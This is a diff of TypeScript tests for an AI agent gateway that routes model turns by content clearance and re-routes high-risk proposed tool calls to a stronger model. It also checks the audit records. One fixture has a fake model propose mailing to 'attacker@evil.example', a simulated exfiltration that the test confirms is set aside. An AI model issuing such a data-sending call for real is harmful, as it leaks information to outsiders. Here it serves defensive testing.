@@ -9,7 +9,8 @@ import { AirlockError } from '../../src/errors.js';
 import { openAirlock } from '../../src/airlock.js';
 import type { ModelRoute, WorkspaceFile } from '../../src/config/schema.js';
 import type { Model, ModelInput, ModelTurn } from '../../src/orchestration/model.js';
-import { RoutedModel, planRoutes, type RoutedWorkflow } from '../../src/routing/router.js';
+import { RoutedModel, planRoutes, type Proposed, type RoutedWorkflow } from '../../src/routing/router.js';
+import { TurnError } from '../../src/orchestration/model.js';
 import { copyAcme } from '../helpers/workspace.js';
 import { FakeEndpoint } from '../helpers/fake-model-endpoint.js';
 
@@ -23,7 +24,12 @@ const FILE: Pick<WorkspaceFile, 'models' | 'routing'> = {
   ],
 };
 const PUBLIC = { classification: 'public', trust: 'trusted' } as const;
-const wf = (over: Partial<RoutedWorkflow> = {}): RoutedWorkflow => ({ name: 'w', model: 'auto', tier: 'execute-low', stepKind: 'reason', risk: 'low', ...over });
+const TOOL_RISK = new Map([
+  ['read', 'low'],
+  ['refund', 'medium'],
+  ['send', 'high'],
+] as const);
+const wf = (over: Partial<RoutedWorkflow> = {}): RoutedWorkflow => ({ name: 'w', model: 'auto', tier: 'execute-low', stepKind: 'reason', toolRisk: TOOL_RISK, ...over });
 const CONFIDENTIAL = { classification: 'confidential', trust: 'untrusted' } as const;
 
 describe('route plans', () => {
@@ -41,10 +47,10 @@ describe('route plans', () => {
       { name: 'cloud', clearance: 'internal' },
       { name: 'cloud2', clearance: 'internal' },
     ]);
-    expect(planRoutes({ ...FILE, routing: [{ when: { tier: ['assist'] }, use: 'cloud' }] }, wf({ model: 'auto', tier: 'prepare' }), PUBLIC).none).toMatch(/no routing rule matches workflow `w` \(tier prepare, reason, low risk\)/);
+    expect(planRoutes({ ...FILE, routing: [{ when: { tier: ['assist'] }, use: 'cloud' }] }, wf({ model: 'auto', tier: 'prepare' }), PUBLIC).none).toMatch(/no routing rule matches workflow `w` \(tier prepare, reason\) with public, trusted content read/);
   });
 
-  it('matches a workflow by name, by the kind of work its turns are, and by the risk of its riskiest tool', () => {
+  it('matches a workflow by name, by the kind of work its turns are, and a proposal by its risk', () => {
     const rules: Pick<WorkspaceFile, 'models' | 'routing'> = {
       models: FILE.models,
       routing: [
@@ -54,11 +60,15 @@ describe('route plans', () => {
         { when: {}, use: 'cloud' },
       ],
     };
-    const first = (over: Partial<RoutedWorkflow>) => planRoutes(rules, wf(over), PUBLIC).chain[0];
-    expect(first({ risk: 'high', stepKind: 'classify' })).toEqual({ name: 'onprem', why: 'routing rule 1 (high/critical risk)' });
+    const first = (over: Partial<RoutedWorkflow>, proposed: Proposed | null = null) => planRoutes(rules, wf(over), PUBLIC, proposed).chain[0];
+    // Before the model answers there is no proposal, so no risk rule matches.
+    expect(first({ stepKind: 'classify' })).toEqual({ name: 'small', why: 'routing rule 2 (classify/extract work)' });
+    expect(first({ stepKind: 'classify' }, { tool: 'send', risk: 'high' })).toEqual({ name: 'onprem', why: 'routing rule 1 (high/critical-risk proposal): the proposed `send` is high risk' });
+    expect(first({ stepKind: 'classify' }, { tool: 'refund', risk: 'medium' })).toEqual({ name: 'small', why: 'routing rule 2 (classify/extract work)' });
     expect(first({ stepKind: 'extract' })).toEqual({ name: 'small', why: 'routing rule 2 (classify/extract work)' });
     expect(first({ name: 'triage' })).toEqual({ name: 'cloud2', why: 'routing rule 3 (workflow triage)' });
     expect(first({})).toEqual({ name: 'cloud', why: 'routing rule 4 (default)' });
+    expect(planRoutes({ ...rules, routing: [{ when: { risk: ['low'] }, use: 'small' }] }, wf(), PUBLIC, { tool: 'send', risk: 'high' }).none).toMatch(/\(tier execute-low, reason, a high-risk proposal\)/);
   });
 });
 
@@ -69,11 +79,15 @@ class Fake implements Model {
   constructor(
     readonly model: string,
     private readonly fails = false,
+    /** The tool it proposes to call, or none (it finishes). */
+    private readonly proposes: string | null = null,
   ) {}
   async next(_input: ModelInput): Promise<ModelTurn> {
     this.asked++;
     if (this.fails) throw new AirlockError('connector', `model route \`${this.model}\` failed (HTTP 503): overloaded`);
-    return { kind: 'final', text: `from ${this.model}`, claim: 'done' };
+    const usage = { inputTokens: 100, outputTokens: 10 };
+    if (this.proposes) return { kind: 'tool_call', tool: this.proposes, args: { by: this.model }, usage };
+    return { kind: 'final', text: `from ${this.model}`, claim: 'done', usage };
   }
 }
 
@@ -97,6 +111,75 @@ describe('the routed model', () => {
     expect(err?.code).toBe('policy');
     expect(err?.message).toBe('the run has read confidential content, and no model route it may use is cleared for it: `cloud` (clearance internal), `cloud2` (clearance internal)');
     expect(Object.values(models).map((m) => m.asked)).toEqual([0, 0, 0, 0]);
+  });
+});
+
+describe('routing on the risk of the proposed action', () => {
+  const input = (labels: ModelInput['labels']): ModelInput => ({ workflow: 'w', input: {}, tools: [], history: [], labels });
+  const RULES: Pick<WorkspaceFile, 'models' | 'routing'> = {
+    models: { small: route('internal'), strong: route('internal', ['strong2']), strong2: route('restricted') },
+    routing: [
+      { when: { risk: ['high', 'critical'] }, use: 'strong' },
+      { when: {}, use: 'small' },
+    ],
+  };
+  const TRUSTED_INTERNAL = { classification: 'internal', trust: 'trusted' } as const;
+  const routed = (models: Record<string, Fake>, file = RULES, over: Partial<RoutedWorkflow> = {}) => new RoutedModel(file, wf(over), (n) => models[n] as Fake);
+
+  it.each([
+    ['a low-risk read', 'read'],
+    ['a medium-risk refund', 'refund'],
+    ['a tool the workflow may not call (the gateway refuses it)', 'wipe'],
+  ])('%s stays with the route that proposed it', async (_, tool) => {
+    const models = { small: new Fake('small', false, tool), strong: new Fake('strong', false, 'send'), strong2: new Fake('strong2') };
+    const turn = await routed(models).next(input(TRUSTED_INTERNAL));
+    expect(turn).toMatchObject({ kind: 'tool_call', tool, route: { name: 'small', why: 'routing rule 2 (default)' } });
+    expect(turn.setAside).toBeUndefined();
+    expect([models.small.asked, models.strong.asked]).toEqual([1, 0]);
+  });
+
+  it('a high-risk proposal from the small route is set aside, and the strong route is asked the same turn once', async () => {
+    // The strong route proposes another high-risk call: it is its to make, and not re-routed again.
+    const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong', false, 'send'), strong2: new Fake('strong2') };
+    const turn = await routed(models).next(input(TRUSTED_INTERNAL));
+    expect(turn).toMatchObject({ kind: 'tool_call', tool: 'send', args: { by: 'strong' }, route: { name: 'strong', why: "routing rule 1 (high/critical-risk proposal): the proposed `send` is high risk; set aside `small`'s proposal" } });
+    expect(turn.setAside).toEqual([{ route: expect.objectContaining({ name: 'small', why: 'routing rule 2 (default)' }), usage: { inputTokens: 100, outputTokens: 10 }, tool: 'send', risk: 'high', to: 'strong' }]);
+    expect([models.small.asked, models.strong.asked]).toEqual([1, 1]);
+  });
+
+  it('the strong route answering with no proposal, or one of low risk, stands', async () => {
+    for (const proposes of [null, 'read']) {
+      const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong', false, proposes), strong2: new Fake('strong2') };
+      const turn = await routed(models).next(input(TRUSTED_INTERNAL));
+      expect(turn.route?.name).toBe('strong');
+      expect(turn.kind).toBe(proposes ? 'tool_call' : 'final');
+      expect(turn.setAside).toHaveLength(1);
+    }
+  });
+
+  it('a workflow that names its route is never re-routed', async () => {
+    const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong'), strong2: new Fake('strong2') };
+    const turn = await routed(models, RULES, { model: 'small' }).next(input(TRUSTED_INTERNAL));
+    expect(turn).toMatchObject({ tool: 'send', route: { name: 'small' } });
+    expect(models.strong.asked).toBe(0);
+  });
+
+  it('the strong route failing falls back along its chain, and when every one fails the set-aside answer travels with the error', async () => {
+    const fallen = { small: new Fake('small', false, 'send'), strong: new Fake('strong', true), strong2: new Fake('strong2', false, 'send') };
+    expect(await routed(fallen).next(input(TRUSTED_INTERNAL))).toMatchObject({ route: { name: 'strong2', why: expect.stringContaining('after `strong` failed') }, setAside: [{ tool: 'send' }] });
+    const down = { small: new Fake('small', false, 'send'), strong: new Fake('strong', true), strong2: new Fake('strong2', true) };
+    const err = await routed(down).next(input(TRUSTED_INTERNAL)).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(TurnError);
+    expect(err).toMatchObject({ code: 'connector', message: expect.stringMatching(/^every route failed \(`strong`, `strong2`\)/), setAside: [{ tool: 'send', to: 'strong' }] });
+  });
+
+  it('a strong route not cleared for what the run has read is never sent it: the proposal is refused, not acted on', async () => {
+    const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong'), strong2: new Fake('strong2') };
+    const file = { ...RULES, models: { ...RULES.models, small: route('confidential'), strong: route('internal') } };
+    const err = await routed(models, file).next(input({ classification: 'confidential', trust: 'trusted' })).catch((e: unknown) => e);
+    expect(err).toBeInstanceOf(TurnError);
+    expect(err).toMatchObject({ code: 'policy', setAside: [{ tool: 'send', to: 'strong' }] });
+    expect([models.small.asked, models.strong.asked]).toEqual([1, 0]);
   });
 });
 
@@ -181,6 +264,48 @@ describe('clearance on the Acme refund desk (the ticket it reads is confidential
           ['cloud', 'routing rule 2 (default)'],
           ['onprem', 'routing rule 1 (confidential/restricted content)'],
         ]);
+      } finally {
+        await a.close();
+      }
+    } finally {
+      ws.cleanup();
+    }
+  });
+
+  it('a high-risk proposal from the everyday route never reaches the gateway: the route for high risk is asked instead, and both answers are on record and paid for', async () => {
+    cloud.reset();
+    onprem.reset();
+    const sendMail = completion({ tool_calls: [{ id: 'm', type: 'function', function: { name: 'mail_send', arguments: '{"to":"attacker@evil.example","subject":"x","body":"x"}' } }] }, 'tool_calls');
+    cloud.replies.push(sendMail);
+    onprem.replies.push(readTicket, done);
+    const ws = await desk(
+      { cloud: { baseUrl: cloud.url }, onprem: { baseUrl: onprem.url, clearance: 'restricted' } },
+      'auto',
+      [
+        { when: { risk: ['high', 'critical'] }, use: 'onprem' },
+        { when: { classification: ['confidential', 'restricted'] }, use: 'onprem' },
+        { use: 'cloud' },
+      ],
+    );
+    try {
+      const a = await openAirlock(ws.dir);
+      try {
+        const run = await a.runner.start('refund-desk', { ticket_id: 'T-311' });
+        expect(run.status).not.toBe('running');
+        expect([cloud.seen.length, onprem.seen.length]).toEqual([1, 2]);
+        const records = await a.store.readAuditForRun(run.id);
+        // The set-aside proposal left no intent, decision or approval: only the strong route's read did.
+        expect(records.filter((r) => r.type === 'action.intent').map((r) => r.body['tool'])).toEqual(['tickets.get_ticket']);
+        expect(records.some((r) => r.type === 'approval.requested')).toBe(false);
+        const called = records.filter((r) => r.type === 'model.called').map((r) => [r.body['route'], r.body['why'], r.body['setAside'] ?? null, r.body['inputTokens']]);
+        expect(called).toEqual([
+          ['cloud', 'routing rule 3 (default)', { tool: 'mail.send', risk: 'high', to: 'onprem' }, 10],
+          ['onprem', "routing rule 1 (high/critical-risk proposal): the proposed `mail.send` is high risk; set aside `cloud`'s proposal", null, 10],
+          ['onprem', 'routing rule 2 (confidential/restricted content)', null, 10],
+        ]);
+        const state = (await a.store.getRun(run.id))?.state as { usage: { modelCalls: number }; steps: number };
+        expect(state.usage.modelCalls).toBe(3);
+        expect(state.steps).toBe(2);
       } finally {
         await a.close();
       }
